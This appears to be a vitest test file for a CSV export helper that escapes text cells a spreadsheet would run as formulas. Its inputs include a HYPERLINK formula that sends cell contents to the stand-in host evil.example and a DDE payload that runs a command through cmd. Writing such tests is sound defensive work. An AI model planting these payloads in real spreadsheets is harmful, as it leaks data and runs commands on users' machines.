import { describe, expect, it } from "vitest";
import { formulaSafe } from "./csv-text.js";

describe("text cells a spreadsheet would run as formulas", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Ver")', `'=HYPERLINK("http://evil.example/?x="&A1,"Ver")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+52 55 1234", "'+52 55 1234"],
    ["-Cable", "'-Cable"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
  ])("%j → %j", (text, expected) => {
    expect(formulaSafe(text)).toBe(expected);
  });

  it.each(["Cable HDMI", "Óptica La Vista", "", " =1", "PF-2026-000001", "a=b"])(
    "leaves %j as it is",
    (text) => {
      expect(formulaSafe(text)).toBe(text);
    },
  );
});
